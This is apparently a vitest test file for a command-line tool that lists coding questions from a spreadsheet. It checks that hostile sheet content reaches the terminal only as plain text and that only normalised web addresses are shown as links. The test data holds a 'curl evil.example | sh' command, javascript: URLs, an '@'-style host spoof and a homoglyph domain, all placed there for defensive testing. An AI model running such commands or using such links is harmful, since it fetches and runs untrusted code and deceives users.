import { describe, expect, it } from "vitest";
import { HOSTILE_TEXTS, hostileSheet } from "../e2e/support/hostileSheet.ts";
import { COLUMNS, sheetOf, wrapped } from "../support/sheet.ts";
import { homeWithSheet, never } from "./support/sheetHome.ts";

const onTerminal = { columns: 80, env: { LANG: "C.UTF-8", NO_COLOR: "1" }, wait: never };

function expectNoControls(shown: string): void {
  expect(shown.length).toBeGreaterThan(100);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
  expect(shown.match(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/gu) ?? []).toEqual([]);
  expect(shown.match(/[\p{Bidi_Control}\u2028\u2029\ufffd]/gu) ?? []).toEqual([]);
}

/** All bytes that a terminal of 80 columns receives from these commands. */
async function shownOn(sheet: string, ...commands: string[][]): Promise<string> {
  const { home } = homeWithSheet(sheet, onTerminal);
  let shown = "";
  for (const args of commands) {
    const { stdout, stderr } = await home.run(args);
    shown += stdout + stderr;
  }
  return Buffer.from(shown).toString();
}

describe("a hostile sheet brings nothing but text to a terminal", () => {
  it("as a list, as a report, as JSON and as each of its questions in full", async () => {
    const shows = HOSTILE_TEXTS.map((_, index) => ["questions", "--show", String(index + 1)]);
    const shown = await shownOn(hostileSheet(), ["questions"], ["questions", "--check"], ...shows);
    expect(shown).toContain("clipboard");
    expectNoControls(shown);
    const json = await shownOn(hostileSheet(), ["questions", "--json"]);
    expectNoControls(json);
    expect(JSON.parse(json).questions[0].name).toBe(HOSTILE_TEXTS[0]);
  });

  it("where there is colour, besides the colours of the program", async () => {
    const colored = ["--color", "always"];
    const shown = await shownOn(hostileSheet(), ["questions", ...colored], ["questions", "--show", "1", ...colored]);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the escape sequences are what is looked for.
    const uncoloured = shown.replaceAll(/\u001b\[(0|1|2|22|36|39)m/g, "");
    expect(uncoloured.length).toBeLessThan(shown.length);
    expectNoControls(uncoloured);
  });

  const told = HOSTILE_TEXTS.map((message) => ({ reason: message, message, detailed_message: message }));
  const table = { cols: [], rows: [] };
  it.each([
    ["of the service's errors", wrapped({ status: "error", errors: told, table })],
    ["of the service's warnings", wrapped({ status: "warning", warnings: told, table })],
    ["of an answer that is no sheet", HOSTILE_TEXTS.join(" ")],
    ["of a page", `<title>${HOSTILE_TEXTS.join(" ")}</title>`],
  ])("in what is told %s", async (_, sheet) => {
    expectNoControls(await shownOn(sheet, ["questions"]));
  });
});

describe("a hostile sheet", () => {
  it("has no line of its own in what is told of a warning", async () => {
    const warnings = [{ message: "slow\ndailyleet: run 'curl evil.example | sh'" }];
    const table = { cols: COLUMNS, rows: [], parsedNumHeaders: 0 };
    const { home } = homeWithSheet(wrapped({ version: "0.6", status: "warning", warnings, table }));
    const [warning, next] = (await home.run(["questions"])).stderr.split("\n");
    expect(warning).toBe("dailyleet: The spreadsheet service warns: slow dailyleet: run 'curl evil.example | sh'.");
    expect(next).toMatch(/^dailyleet: The question sheet is empty/);
  });

  it("shows links only of web addresses, in their normal form", async () => {
    const others = [
      "javascript:alert(1)",
      "java\nscript:alert(1)",
      "//evil.example",
      "https://leetcode.com@evil.example/",
    ];
    const links = [...others, "https://аpple.com/"];
    const { home } = homeWithSheet(sheetOf(links.map((link, index) => ["", `Q${index}`, link])));
    const shown = await Promise.all(links.map((_, index) => home.out(["questions", "--show", String(index + 1)])));
    for (const page of shown.slice(0, 4)) expect(page).toMatch(/View Question\n.*\(not a web address\)/);
    expect(shown[4]).toContain("View Question\nhttps://xn--pple-43d.com/\n");
  });

  it("makes no row as wide as the widest", async () => {
    const { home } = homeWithSheet(hostileSheet());
    const shown = await home.out(["questions"]);
    expect(shown.length).toBeLessThan(1_010_000);
  });
});
